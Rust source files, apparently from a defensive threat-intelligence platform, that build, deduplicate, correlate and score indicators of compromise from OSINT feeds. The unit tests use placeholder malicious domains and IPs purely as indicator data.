        let stale_cluster =
            ComposedIoc::new(ThreatCategory::CommandAndControl, stale_records, ctx.now);
        let stale = enricher.enrich(stale_cluster).score();
        assert!(fresh > stale, "{fresh} vs {stale}");
    }

    #[test]
    fn persist_writes_score_and_criterion_tags() {
        let ctx = EvaluationContext::paper_use_case();
        let enricher = Enricher::new(ctx.clone());
        let mut eioc = enricher.enrich(cve_cluster(&ctx));
        let api = MispApi::new("CAIS");
        let event_id = persist_enriched(&api, &mut eioc).unwrap();
        assert_eq!(eioc.misp_event_id, Some(event_id));
        let event = api.get_event(event_id).unwrap();
        let stored_score = event.threat_score().expect("score attribute");
        assert!((stored_score - eioc.score()).abs() < 1e-3);
        // Per-criterion machine tags are present (future-work feature).
        for predicate in ["relevance", "accuracy", "timeliness", "variety", "priority"] {
            assert!(
                event
                    .tags
                    .iter()
                    .any(|t| t.namespace() == Some("cais") && t.predicate() == Some(predicate)),
                "missing cais:{predicate} tag"
            );
        }
    }
}
