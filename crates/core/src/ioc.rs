//! The three IoC forms of Section III: composed, enriched and reduced.

use cais_common::{Timestamp, Uuid};
use cais_feeds::{FeedRecord, ThreatCategory};
use serde::{Deserialize, Serialize};

use cais_infra::NodeId;

use crate::heuristics::{CriteriaTotals, HeuristicKind, ThreatScore};

/// A **composed IoC (cIoC)**: "the result of the aggregation and
/// normalization of OSINT data, retrieved from various feeds, expressed
/// in different formats".
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ComposedIoc {
    /// Stable identifier.
    pub id: Uuid,
    /// The threat category all member records share.
    pub category: ThreatCategory,
    /// The correlated, deduplicated records composing this IoC.
    pub records: Vec<FeedRecord>,
    /// When the composition happened.
    pub composed_at: Timestamp,
}

impl ComposedIoc {
    /// Creates a cIoC over correlated records.
    ///
    /// # Panics
    ///
    /// Panics when `records` is empty — a cIoC is *composed of* events;
    /// the aggregator never emits empty clusters.
    pub fn new(category: ThreatCategory, records: Vec<FeedRecord>, composed_at: Timestamp) -> Self {
        assert!(!records.is_empty(), "a cIoC must contain records");
        // Deterministic id from member dedup keys, so identical clusters
        // compose to the same IoC across runs.
        let mut keys: Vec<String> = records.iter().map(FeedRecord::dedup_key).collect();
        keys.sort_unstable();
        let id = Uuid::new_v5(&format!("cioc|{category}|{}", keys.join(",")));
        ComposedIoc {
            id,
            category,
            records,
            composed_at,
        }
    }

    /// The distinct feed sources that contributed.
    pub fn sources(&self) -> Vec<&str> {
        let mut out: Vec<&str> = self.records.iter().map(|r| r.source.as_str()).collect();
        out.sort_unstable();
        out.dedup();
        out
    }

    /// The first CVE any member carries, if one does.
    pub fn cve(&self) -> Option<&str> {
        self.records.iter().find_map(|r| r.cve.as_deref())
    }

    /// A one-line summary for event titles.
    pub fn summary(&self) -> String {
        format!(
            "{} cluster of {} records from {} sources",
            self.category,
            self.records.len(),
            self.sources().len()
        )
    }
}

/// An **enriched IoC (eIoC)**: a cIoC "after the correlation … with
/// static and real-time information associated to the monitored
/// infrastructure", carrying the computed Threat Score.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct EnrichedIoc {
    /// Identifier (shared with the underlying cIoC).
    pub id: Uuid,
    /// The composed IoC this enriches.
    pub composed: ComposedIoc,
    /// Which heuristic scored it.
    pub heuristic: HeuristicKind,
    /// The Threat Score with its full breakdown.
    pub threat_score: ThreatScore,
    /// The MISP event holding the stored form, when persisted.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub misp_event_id: Option<u64>,
    /// When enrichment happened.
    pub enriched_at: Timestamp,
}

impl EnrichedIoc {
    /// The final score value.
    pub fn score(&self) -> f64 {
        self.threat_score.total()
    }
}

/// A **reduced IoC (rIoC)**: "the reduced version of the corresponding
/// enriched one … with just the most relevant information from the
/// monitored infrastructure point of view", sent to the dashboard.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ReducedIoc {
    /// Identifier (shared with the eIoC it reduces).
    pub id: Uuid,
    /// The CVE, when the underlying threat has one.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub cve: Option<String>,
    /// Brief description of the vulnerability/threat.
    pub description: String,
    /// The affected application the inventory matched.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub affected_application: Option<String>,
    /// The final Threat Score.
    pub threat_score: f64,
    /// Per-criterion point totals behind the score, when the heuristic
    /// derived its weights from criteria — the paper's future-work item
    /// of displaying "detailed information about each single criterion"
    /// on the dashboard.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub criteria: Option<CriteriaTotals>,
    /// The nodes the IoC is associated with (all nodes on a
    /// common-keyword match).
    pub nodes: Vec<NodeId>,
    /// Whether the association came from a common keyword.
    pub via_common_keyword: bool,
    /// Link back to the stored eIoC's MISP event.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub misp_event_id: Option<u64>,
}

impl ReducedIoc {
    /// The paper's dashboard priority reading of the score.
    pub fn priority_label(&self) -> &'static str {
        if self.threat_score < 1.0 {
            "very-low"
        } else if self.threat_score < 2.0 {
            "low"
        } else if self.threat_score < 3.0 {
            "medium"
        } else if self.threat_score < 4.0 {
            "high"
        } else {
            "critical"
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_common::{Observable, ObservableKind};

    fn record(value: &str, source: &str) -> FeedRecord {
        FeedRecord::new(
            Observable::new(ObservableKind::Domain, value),
            ThreatCategory::MalwareDomain,
            source,
            Timestamp::EPOCH,
        )
    }

    #[test]
    fn cioc_id_is_content_addressed() {
        let a = ComposedIoc::new(
            ThreatCategory::MalwareDomain,
            vec![record("a.example", "f1"), record("b.example", "f2")],
            Timestamp::EPOCH,
        );
        let b = ComposedIoc::new(
            ThreatCategory::MalwareDomain,
            vec![record("b.example", "f2"), record("a.example", "f1")],
            Timestamp::EPOCH.add_days(1),
        );
        assert_eq!(a.id, b.id, "member order and time do not change identity");
    }

    #[test]
    #[should_panic(expected = "must contain records")]
    fn empty_cioc_panics() {
        let _ = ComposedIoc::new(ThreatCategory::Spam, Vec::new(), Timestamp::EPOCH);
    }

    #[test]
    fn sources_are_deduped() {
        let c = ComposedIoc::new(
            ThreatCategory::MalwareDomain,
            vec![
                record("a.example", "feed-1"),
                record("b.example", "feed-1"),
                record("c.example", "feed-2"),
            ],
            Timestamp::EPOCH,
        );
        assert_eq!(c.sources(), vec!["feed-1", "feed-2"]);
        assert!(c.summary().contains("3 records"));
    }

    #[test]
    fn cve_surfaces_from_members() {
        let mut with_cve = record("exploit.example", "f");
        with_cve.cve = Some("CVE-2017-9805".into());
        let c = ComposedIoc::new(
            ThreatCategory::VulnerabilityExploitation,
            vec![record("a.example", "f"), with_cve],
            Timestamp::EPOCH,
        );
        assert_eq!(c.cve(), Some("CVE-2017-9805"));
    }

    #[test]
    fn rioc_priority_labels() {
        let mut rioc = ReducedIoc {
            id: Uuid::NIL,
            cve: None,
            description: "d".into(),
            affected_application: None,
            threat_score: 2.7406,
            criteria: None,
            nodes: vec![NodeId(4)],
            via_common_keyword: false,
            misp_event_id: None,
        };
        assert_eq!(rioc.priority_label(), "medium");
        rioc.threat_score = 4.2;
        assert_eq!(rioc.priority_label(), "critical");
    }
}
