//! The deduplicator of Section III-A1: "compares the data received with
//! the data already stored …, looking for security events equal to the
//! received ones, and erases the duplicated ones".

use std::collections::HashSet;

use cais_feeds::FeedRecord;
use serde::{Deserialize, Serialize};

/// Counters describing a deduplication run.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct DedupStats {
    /// Records examined.
    pub seen: usize,
    /// Records passed through (first occurrences).
    pub kept: usize,
    /// Records dropped as duplicates.
    pub dropped: usize,
}

impl DedupStats {
    /// The fraction of input that was duplicated, in `[0, 1]`.
    pub fn duplicate_ratio(&self) -> f64 {
        if self.seen == 0 {
            0.0
        } else {
            self.dropped as f64 / self.seen as f64
        }
    }
}

/// A stateful, streaming deduplicator keyed on
/// [`FeedRecord::dedup_key`] (threat category + normalized observable),
/// so the same value reported by two feeds — or twice by one feed —
/// passes only once.
#[derive(Debug, Default)]
pub struct Deduplicator {
    seen: HashSet<String>,
    stats: DedupStats,
}

impl Deduplicator {
    /// Creates an empty deduplicator.
    pub fn new() -> Self {
        Deduplicator::default()
    }

    /// Offers one record; returns `true` when it is new (kept).
    pub fn offer(&mut self, record: &FeedRecord) -> bool {
        self.stats.seen += 1;
        if self.seen.insert(record.dedup_key()) {
            self.stats.kept += 1;
            true
        } else {
            self.stats.dropped += 1;
            false
        }
    }

    /// Filters a batch, keeping first occurrences in order.
    pub fn filter_batch(&mut self, records: Vec<FeedRecord>) -> Vec<FeedRecord> {
        records
            .into_iter()
            .filter(|record| self.offer(record))
            .collect()
    }

    /// The running counters.
    pub fn stats(&self) -> DedupStats {
        self.stats
    }

    /// Number of distinct keys on record.
    pub fn distinct(&self) -> usize {
        self.seen.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_common::{Observable, ObservableKind, Timestamp};
    use cais_feeds::ThreatCategory;

    fn record(value: &str, source: &str, category: ThreatCategory) -> FeedRecord {
        FeedRecord::new(
            Observable::new(ObservableKind::Domain, value),
            category,
            source,
            Timestamp::EPOCH,
        )
    }

    #[test]
    fn cross_feed_duplicates_dropped() {
        let mut dedup = Deduplicator::new();
        assert!(dedup.offer(&record("evil.example", "feed-a", ThreatCategory::MalwareDomain)));
        assert!(!dedup.offer(&record("evil.example", "feed-b", ThreatCategory::MalwareDomain)));
        assert_eq!(dedup.stats().dropped, 1);
        assert_eq!(dedup.distinct(), 1);
    }

    #[test]
    fn same_value_different_category_is_distinct() {
        let mut dedup = Deduplicator::new();
        assert!(dedup.offer(&record("evil.example", "f", ThreatCategory::MalwareDomain)));
        assert!(dedup.offer(&record("evil.example", "f", ThreatCategory::Phishing)));
    }

    #[test]
    fn batch_preserves_order_of_first_occurrences() {
        let mut dedup = Deduplicator::new();
        let batch = vec![
            record("a.example", "f", ThreatCategory::Spam),
            record("b.example", "f", ThreatCategory::Spam),
            record("a.example", "g", ThreatCategory::Spam),
            record("c.example", "f", ThreatCategory::Spam),
        ];
        let kept = dedup.filter_batch(batch);
        let values: Vec<&str> = kept.iter().map(|r| r.observable.value()).collect();
        assert_eq!(values, vec!["a.example", "b.example", "c.example"]);
        assert!((dedup.stats().duplicate_ratio() - 0.25).abs() < 1e-12);
    }

    #[test]
    fn state_persists_across_batches() {
        let mut dedup = Deduplicator::new();
        let first = dedup.filter_batch(vec![record("a.example", "f", ThreatCategory::Spam)]);
        assert_eq!(first.len(), 1);
        // Re-fetch of the same feed content later: everything dropped.
        let second = dedup.filter_batch(vec![record("a.example", "f", ThreatCategory::Spam)]);
        assert!(second.is_empty());
    }

    #[test]
    fn empty_input_ratio_is_zero() {
        assert_eq!(Deduplicator::new().stats().duplicate_ratio(), 0.0);
    }
}
