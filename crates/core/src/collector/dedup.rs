//! The deduplicator of Section III-A1: "compares the data received with
//! the data already stored …, looking for security events equal to the
//! received ones, and erases the duplicated ones".

use std::collections::HashSet;

use cais_feeds::FeedRecord;
use serde::{Deserialize, Serialize};

/// Counters describing a deduplication run.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct DedupStats {
    /// Records examined.
    pub seen: usize,
    /// Records passed through (first occurrences).
    pub kept: usize,
    /// Records dropped as duplicates.
    pub dropped: usize,
}

impl DedupStats {
    /// The fraction of input that was duplicated, in `[0, 1]`.
    pub fn duplicate_ratio(&self) -> f64 {
        if self.seen == 0 {
            0.0
        } else {
            self.dropped as f64 / self.seen as f64
        }
    }
}

/// A stateful, streaming deduplicator keyed on
/// [`FeedRecord::dedup_key`] (threat category + normalized observable),
/// so the same value reported by two feeds — or twice by one feed —
/// passes only once.
#[derive(Debug, Default)]
pub struct Deduplicator {
    seen: HashSet<String>,
    stats: DedupStats,
}

impl Deduplicator {
    /// Creates an empty deduplicator.
    pub fn new() -> Self {
        Deduplicator::default()
    }

    /// Offers one record; returns `true` when it is new (kept).
    pub fn offer(&mut self, record: &FeedRecord) -> bool {
        self.stats.seen += 1;
        if self.seen.insert(record.dedup_key()) {
            self.stats.kept += 1;
            true
        } else {
            self.stats.dropped += 1;
            false
        }
    }

    /// Filters a batch, keeping first occurrences in order.
    pub fn filter_batch(&mut self, records: Vec<FeedRecord>) -> Vec<FeedRecord> {
        records
            .into_iter()
            .filter(|record| self.offer(record))
            .collect()
    }

    /// The running counters.
    pub fn stats(&self) -> DedupStats {
        self.stats
    }

    /// Number of distinct keys on record.
    pub fn distinct(&self) -> usize {
        self.seen.len()
    }
}

/// A stable FNV-1a hash of the dedup key, so a key always lands on the
/// same shard regardless of process, run or `RandomState` seeding.
fn shard_hash(key: &str) -> u64 {
    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
    for byte in key.as_bytes() {
        hash ^= u64::from(*byte);
        hash = hash.wrapping_mul(0x0000_0100_0000_01b3);
    }
    hash
}

/// A [`Deduplicator`] partitioned into independent shards keyed on the
/// hash of [`FeedRecord::dedup_key`].
///
/// Because a given key always hashes to the same shard, per-shard
/// first-occurrence semantics equal global first-occurrence semantics:
/// filtering a batch through the shards — serially or with one worker
/// per shard group, no cross-shard locking — keeps exactly the records
/// a single [`Deduplicator`] would keep. [`filter_batch`] preserves
/// input order; [`filter_batch_parallel`] restores it by tagging each
/// record with its input index before fanning out.
///
/// [`filter_batch`]: ShardedDeduplicator::filter_batch
/// [`filter_batch_parallel`]: ShardedDeduplicator::filter_batch_parallel
#[derive(Debug)]
pub struct ShardedDeduplicator {
    shards: Vec<Deduplicator>,
}

impl ShardedDeduplicator {
    /// Creates a deduplicator with `shards` independent partitions
    /// (clamped to at least 1).
    pub fn new(shards: usize) -> Self {
        ShardedDeduplicator {
            shards: (0..shards.max(1)).map(|_| Deduplicator::new()).collect(),
        }
    }

    /// Number of shards.
    pub fn shard_count(&self) -> usize {
        self.shards.len()
    }

    /// The shard a record partitions to.
    pub fn shard_of(&self, record: &FeedRecord) -> usize {
        (shard_hash(&record.dedup_key()) % self.shards.len() as u64) as usize
    }

    /// Offers one record to its shard; returns `true` when it is new.
    pub fn offer(&mut self, record: &FeedRecord) -> bool {
        let shard = self.shard_of(record);
        self.shards[shard].offer(record)
    }

    /// Filters a batch serially, keeping first occurrences in order —
    /// byte-identical output to [`Deduplicator::filter_batch`] over the
    /// same state.
    pub fn filter_batch(&mut self, records: Vec<FeedRecord>) -> Vec<FeedRecord> {
        records
            .into_iter()
            .filter(|record| self.offer(record))
            .collect()
    }

    /// Filters a batch with up to `workers` scoped threads, each owning
    /// a disjoint group of shards. Output order, kept set and
    /// aggregated [`DedupStats`] are identical to [`filter_batch`].
    pub fn filter_batch_parallel(
        &mut self,
        records: Vec<FeedRecord>,
        workers: usize,
    ) -> Vec<FeedRecord> {
        let workers = workers.max(1);
        if workers == 1 || self.shards.len() == 1 {
            return self.filter_batch(records);
        }
        let shard_count = self.shards.len();
        let mut buckets: Vec<Vec<(usize, FeedRecord)>> = Vec::new();
        buckets.resize_with(shard_count, Vec::new);
        for (index, record) in records.into_iter().enumerate() {
            let shard = (shard_hash(&record.dedup_key()) % shard_count as u64) as usize;
            buckets[shard].push((index, record));
        }
        let group = shard_count.div_ceil(workers);
        let mut kept: Vec<Vec<(usize, FeedRecord)>> = std::thread::scope(|scope| {
            let handles: Vec<_> = self
                .shards
                .chunks_mut(group)
                .zip(buckets.chunks_mut(group))
                .map(|(shards, buckets)| {
                    scope.spawn(move || {
                        let mut kept = Vec::new();
                        for (shard, bucket) in shards.iter_mut().zip(buckets.iter_mut()) {
                            kept.extend(bucket.drain(..).filter(|(_, record)| shard.offer(record)));
                        }
                        kept
                    })
                })
                .collect();
            handles
                .into_iter()
                .map(|handle| handle.join().expect("dedup worker panicked"))
                .collect()
        });
        let mut merged: Vec<(usize, FeedRecord)> =
            kept.iter_mut().flat_map(std::mem::take).collect();
        merged.sort_unstable_by_key(|(index, _)| *index);
        merged.into_iter().map(|(_, record)| record).collect()
    }

    /// The aggregated counters across every shard.
    pub fn stats(&self) -> DedupStats {
        self.shards
            .iter()
            .map(Deduplicator::stats)
            .fold(DedupStats::default(), |acc, s| DedupStats {
                seen: acc.seen + s.seen,
                kept: acc.kept + s.kept,
                dropped: acc.dropped + s.dropped,
            })
    }

    /// Number of distinct keys on record across every shard.
    pub fn distinct(&self) -> usize {
        self.shards.iter().map(Deduplicator::distinct).sum()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_common::{Observable, ObservableKind, Timestamp};
    use cais_feeds::ThreatCategory;

    fn record(value: &str, source: &str, category: ThreatCategory) -> FeedRecord {
        FeedRecord::new(
            Observable::new(ObservableKind::Domain, value),
            category,
            source,
            Timestamp::EPOCH,
        )
    }

    #[test]
    fn cross_feed_duplicates_dropped() {
        let mut dedup = Deduplicator::new();
        assert!(dedup.offer(&record(
            "evil.example",
            "feed-a",
            ThreatCategory::MalwareDomain
        )));
        assert!(!dedup.offer(&record(
            "evil.example",
            "feed-b",
            ThreatCategory::MalwareDomain
        )));
        assert_eq!(dedup.stats().dropped, 1);
        assert_eq!(dedup.distinct(), 1);
    }

    #[test]
    fn same_value_different_category_is_distinct() {
        let mut dedup = Deduplicator::new();
        assert!(dedup.offer(&record("evil.example", "f", ThreatCategory::MalwareDomain)));
        assert!(dedup.offer(&record("evil.example", "f", ThreatCategory::Phishing)));
    }

    #[test]
    fn batch_preserves_order_of_first_occurrences() {
        let mut dedup = Deduplicator::new();
        let batch = vec![
            record("a.example", "f", ThreatCategory::Spam),
            record("b.example", "f", ThreatCategory::Spam),
            record("a.example", "g", ThreatCategory::Spam),
            record("c.example", "f", ThreatCategory::Spam),
        ];
        let kept = dedup.filter_batch(batch);
        let values: Vec<&str> = kept.iter().map(|r| r.observable.value()).collect();
        assert_eq!(values, vec!["a.example", "b.example", "c.example"]);
        assert!((dedup.stats().duplicate_ratio() - 0.25).abs() < 1e-12);
    }

    #[test]
    fn state_persists_across_batches() {
        let mut dedup = Deduplicator::new();
        let first = dedup.filter_batch(vec![record("a.example", "f", ThreatCategory::Spam)]);
        assert_eq!(first.len(), 1);
        // Re-fetch of the same feed content later: everything dropped.
        let second = dedup.filter_batch(vec![record("a.example", "f", ThreatCategory::Spam)]);
        assert!(second.is_empty());
    }

    #[test]
    fn empty_input_ratio_is_zero() {
        assert_eq!(Deduplicator::new().stats().duplicate_ratio(), 0.0);
    }

    fn duplicate_heavy_batch() -> Vec<FeedRecord> {
        (0..200)
            .map(|i| {
                record(
                    &format!("host-{}.example", i % 60),
                    "feed",
                    ThreatCategory::MalwareDomain,
                )
            })
            .collect()
    }

    #[test]
    fn sharded_matches_sequential_serially() {
        for shards in [1, 3, 8] {
            let mut sequential = Deduplicator::new();
            let mut sharded = ShardedDeduplicator::new(shards);
            let expected = sequential.filter_batch(duplicate_heavy_batch());
            let got = sharded.filter_batch(duplicate_heavy_batch());
            assert_eq!(got, expected, "{shards} shards");
            assert_eq!(sharded.stats(), sequential.stats());
            assert_eq!(sharded.distinct(), sequential.distinct());
        }
    }

    #[test]
    fn sharded_matches_sequential_in_parallel() {
        for (shards, workers) in [(2, 2), (8, 4), (8, 16)] {
            let mut sequential = Deduplicator::new();
            let mut sharded = ShardedDeduplicator::new(shards);
            let expected = sequential.filter_batch(duplicate_heavy_batch());
            let got = sharded.filter_batch_parallel(duplicate_heavy_batch(), workers);
            assert_eq!(got, expected, "{shards} shards / {workers} workers");
            assert_eq!(sharded.stats(), sequential.stats());
        }
    }

    #[test]
    fn sharded_state_persists_across_batches() {
        let mut sharded = ShardedDeduplicator::new(4);
        assert_eq!(
            sharded
                .filter_batch_parallel(duplicate_heavy_batch(), 4)
                .len(),
            60
        );
        assert!(sharded
            .filter_batch_parallel(duplicate_heavy_batch(), 4)
            .is_empty());
        assert_eq!(sharded.distinct(), 60);
    }

    #[test]
    fn same_key_always_lands_on_the_same_shard() {
        let sharded = ShardedDeduplicator::new(8);
        let a = record("evil.example", "feed-a", ThreatCategory::MalwareDomain);
        let b = record("evil.example", "feed-b", ThreatCategory::MalwareDomain);
        assert_eq!(sharded.shard_of(&a), sharded.shard_of(&b));
    }

    #[test]
    fn zero_shards_clamps_to_one() {
        assert_eq!(ShardedDeduplicator::new(0).shard_count(), 1);
    }
}
