//! The Input Module: OSINT and infrastructure collectors.

mod dedup;
mod infra;
mod osint;

pub use dedup::{DedupStats, Deduplicator, ShardedDeduplicator};
pub use infra::InfrastructureCollector;
pub use osint::{aggregate_into_ciocs, OsintCollector, DEFAULT_DEDUP_SHARDS};
