//! The OSINT Data Collector: deduplication → aggregation by threat
//! category → pairwise correlation → composed IoCs.
//!
//! Section III-A1: "the component aggregates the security events by
//! threat category, resulting in sets of events regarding a same
//! category. In addition, within each set it looks for interconnections
//! between events, correlating them by the establishment of connections
//! of pair of events. The result of this correlation is sub-sets of
//! events. Lastly, from these subsets are generated cIoCs, in which a
//! single (composed) IoC is created from the correlated events."

use std::collections::HashMap;

use cais_common::{ObservableKind, Timestamp};
use cais_feeds::{FeedRecord, ThreatCategory};

use super::dedup::{DedupStats, ShardedDeduplicator};
use crate::ioc::ComposedIoc;

/// Default shard count of the collector's deduplicator: enough
/// partitions to keep 4–8 ingest workers busy without cross-shard
/// contention.
pub const DEFAULT_DEDUP_SHARDS: usize = 8;

/// A minimal union-find over record indices.
struct UnionFind {
    parent: Vec<usize>,
}

impl UnionFind {
    fn new(n: usize) -> Self {
        UnionFind {
            parent: (0..n).collect(),
        }
    }

    fn find(&mut self, x: usize) -> usize {
        if self.parent[x] != x {
            let root = self.find(self.parent[x]);
            self.parent[x] = root;
        }
        self.parent[x]
    }

    fn union(&mut self, a: usize, b: usize) {
        let (ra, rb) = (self.find(a), self.find(b));
        if ra != rb {
            self.parent[rb] = ra;
        }
    }
}

/// The correlation handles of one record: two records sharing any
/// handle are considered interconnected.
fn correlation_handles(record: &FeedRecord) -> Vec<String> {
    let mut handles = Vec::new();
    if let Some(cve) = &record.cve {
        handles.push(format!("cve:{}", cve.to_ascii_uppercase()));
    }
    // The registered (apex) domain connects a domain, the host of a URL
    // and the domain of an e-mail address.
    if let Some(apex) = apex_domain(record) {
        handles.push(format!("apex:{apex}"));
    }
    // A shared malware-family word in the description connects records
    // describing the same campaign.
    if let Some(description) = &record.description {
        if let Some(family) = description.split_whitespace().next() {
            let family = family.to_ascii_lowercase();
            if family.len() >= 4 && family.chars().all(char::is_alphanumeric) {
                handles.push(format!("family:{family}"));
            }
        }
    }
    handles
}

/// Extracts the apex (registered) domain of domain/URL/e-mail values:
/// the last two DNS labels.
fn apex_domain(record: &FeedRecord) -> Option<String> {
    let host = match record.observable.kind() {
        ObservableKind::Domain => record.observable.value().to_owned(),
        ObservableKind::Email => record.observable.value().split_once('@')?.1.to_owned(),
        ObservableKind::Url => {
            let value = record.observable.value();
            let rest = value.split_once("://")?.1;
            let host = rest.split(['/', ':', '?']).next()?;
            host.to_owned()
        }
        _ => return None,
    };
    let labels: Vec<&str> = host.split('.').collect();
    if labels.len() < 2 {
        return None;
    }
    Some(labels[labels.len() - 2..].join("."))
}

/// Aggregates already-deduplicated records into composed IoCs: one cIoC
/// per correlated sub-set within each threat category.
pub fn aggregate_into_ciocs(records: Vec<FeedRecord>, now: Timestamp) -> Vec<ComposedIoc> {
    // Aggregation by threat category.
    let mut by_category: HashMap<ThreatCategory, Vec<FeedRecord>> = HashMap::new();
    for record in records {
        by_category.entry(record.category).or_default().push(record);
    }

    let mut ciocs = Vec::new();
    let mut categories: Vec<ThreatCategory> = by_category.keys().copied().collect();
    categories.sort_unstable();
    for category in categories {
        let set = by_category.remove(&category).expect("key present");
        // Pairwise correlation via shared handles.
        let mut uf = UnionFind::new(set.len());
        let mut by_handle: HashMap<String, usize> = HashMap::new();
        for (index, record) in set.iter().enumerate() {
            for handle in correlation_handles(record) {
                match by_handle.get(&handle) {
                    Some(&first) => uf.union(first, index),
                    None => {
                        by_handle.insert(handle, index);
                    }
                }
            }
        }
        // Sub-sets → cIoCs.
        let mut clusters: HashMap<usize, Vec<FeedRecord>> = HashMap::new();
        for (index, record) in set.into_iter().enumerate() {
            clusters.entry(uf.find(index)).or_default().push(record);
        }
        let mut roots: Vec<usize> = clusters.keys().copied().collect();
        roots.sort_unstable();
        for root in roots {
            let members = clusters.remove(&root).expect("key present");
            ciocs.push(ComposedIoc::new(category, members, now));
        }
    }
    ciocs
}

/// The stateful OSINT collector: a persistent sharded deduplicator in
/// front of the aggregator. Serial and parallel ingestion share the
/// same dedup state, so mixing the two never re-admits a duplicate.
#[derive(Debug)]
pub struct OsintCollector {
    dedup: ShardedDeduplicator,
}

impl Default for OsintCollector {
    fn default() -> Self {
        OsintCollector::new()
    }
}

impl OsintCollector {
    /// Creates a collector with empty dedup state over
    /// [`DEFAULT_DEDUP_SHARDS`] shards.
    pub fn new() -> Self {
        OsintCollector::with_shards(DEFAULT_DEDUP_SHARDS)
    }

    /// Creates a collector whose deduplicator has `shards` partitions.
    pub fn with_shards(shards: usize) -> Self {
        OsintCollector {
            dedup: ShardedDeduplicator::new(shards),
        }
    }

    /// Ingests a batch of normalized feed records, returning the
    /// composed IoCs of the *new* (non-duplicate) ones.
    pub fn ingest(&mut self, records: Vec<FeedRecord>, now: Timestamp) -> Vec<ComposedIoc> {
        let fresh = self.dedup_batch(records);
        if fresh.is_empty() {
            return Vec::new();
        }
        aggregate_into_ciocs(fresh, now)
    }

    /// Runs only the deduplication stage, serially, keeping first
    /// occurrences in input order.
    pub fn dedup_batch(&mut self, records: Vec<FeedRecord>) -> Vec<FeedRecord> {
        self.dedup.filter_batch(records)
    }

    /// Runs only the deduplication stage with up to `workers` scoped
    /// threads over the shards; output is identical to
    /// [`OsintCollector::dedup_batch`].
    pub fn dedup_batch_parallel(
        &mut self,
        records: Vec<FeedRecord>,
        workers: usize,
    ) -> Vec<FeedRecord> {
        self.dedup.filter_batch_parallel(records, workers)
    }

    /// Deduplication counters since construction, aggregated across
    /// shards.
    pub fn dedup_stats(&self) -> DedupStats {
        self.dedup.stats()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_common::Observable;

    fn rec(kind: ObservableKind, value: &str, category: ThreatCategory) -> FeedRecord {
        FeedRecord::new(
            Observable::new(kind, value),
            category,
            "feed",
            Timestamp::EPOCH,
        )
    }

    #[test]
    fn categories_do_not_mix() {
        let ciocs = aggregate_into_ciocs(
            vec![
                rec(
                    ObservableKind::Domain,
                    "a.example",
                    ThreatCategory::MalwareDomain,
                ),
                rec(
                    ObservableKind::Domain,
                    "b.example",
                    ThreatCategory::Phishing,
                ),
            ],
            Timestamp::EPOCH,
        );
        assert_eq!(ciocs.len(), 2);
        assert_ne!(ciocs[0].category, ciocs[1].category);
    }

    #[test]
    fn shared_apex_domain_correlates() {
        let ciocs = aggregate_into_ciocs(
            vec![
                rec(
                    ObservableKind::Domain,
                    "c2.evil.example",
                    ThreatCategory::MalwareDomain,
                ),
                rec(
                    ObservableKind::Domain,
                    "drop.evil.example",
                    ThreatCategory::MalwareDomain,
                ),
                rec(
                    ObservableKind::Domain,
                    "unrelated.test",
                    ThreatCategory::MalwareDomain,
                ),
            ],
            Timestamp::EPOCH,
        );
        assert_eq!(ciocs.len(), 2);
        let sizes: Vec<usize> = {
            let mut s: Vec<usize> = ciocs.iter().map(|c| c.records.len()).collect();
            s.sort_unstable();
            s
        };
        assert_eq!(sizes, vec![1, 2]);
    }

    #[test]
    fn url_and_domain_share_apex() {
        let ciocs = aggregate_into_ciocs(
            vec![
                rec(
                    ObservableKind::Url,
                    "http://pay.evil.example/login",
                    ThreatCategory::Phishing,
                ),
                rec(
                    ObservableKind::Domain,
                    "evil.example",
                    ThreatCategory::Phishing,
                ),
            ],
            Timestamp::EPOCH,
        );
        assert_eq!(ciocs.len(), 1);
        assert_eq!(ciocs[0].records.len(), 2);
    }

    #[test]
    fn shared_cve_correlates_disjoint_kinds() {
        let mut ip = rec(
            ObservableKind::Ipv4,
            "203.0.113.9",
            ThreatCategory::VulnerabilityExploitation,
        );
        ip.cve = Some("CVE-2017-9805".into());
        let mut cve = rec(
            ObservableKind::Cve,
            "CVE-2017-9805",
            ThreatCategory::VulnerabilityExploitation,
        );
        cve.cve = Some("CVE-2017-9805".into());
        let ciocs = aggregate_into_ciocs(vec![ip, cve], Timestamp::EPOCH);
        assert_eq!(ciocs.len(), 1);
        assert_eq!(ciocs[0].cve(), Some("CVE-2017-9805"));
    }

    #[test]
    fn family_description_correlates_ips() {
        let mut a = rec(
            ObservableKind::Ipv4,
            "203.0.113.9",
            ThreatCategory::CommandAndControl,
        );
        a.description = Some("emotet tier-1 node".into());
        let mut b = rec(
            ObservableKind::Ipv4,
            "198.51.100.7",
            ThreatCategory::CommandAndControl,
        );
        b.description = Some("emotet tier-2 node".into());
        let c = rec(
            ObservableKind::Ipv4,
            "192.0.2.55",
            ThreatCategory::CommandAndControl,
        );
        let ciocs = aggregate_into_ciocs(vec![a, b, c], Timestamp::EPOCH);
        assert_eq!(ciocs.len(), 2);
    }

    #[test]
    fn collector_suppresses_refetch() {
        let mut collector = OsintCollector::new();
        let batch = vec![rec(
            ObservableKind::Domain,
            "evil.example",
            ThreatCategory::MalwareDomain,
        )];
        let first = collector.ingest(batch.clone(), Timestamp::EPOCH);
        assert_eq!(first.len(), 1);
        let second = collector.ingest(batch, Timestamp::EPOCH);
        assert!(second.is_empty());
        assert_eq!(collector.dedup_stats().dropped, 1);
    }

    #[test]
    fn aggregation_is_deterministic() {
        let records = || {
            vec![
                rec(
                    ObservableKind::Domain,
                    "a.evil.example",
                    ThreatCategory::MalwareDomain,
                ),
                rec(
                    ObservableKind::Domain,
                    "b.evil.example",
                    ThreatCategory::MalwareDomain,
                ),
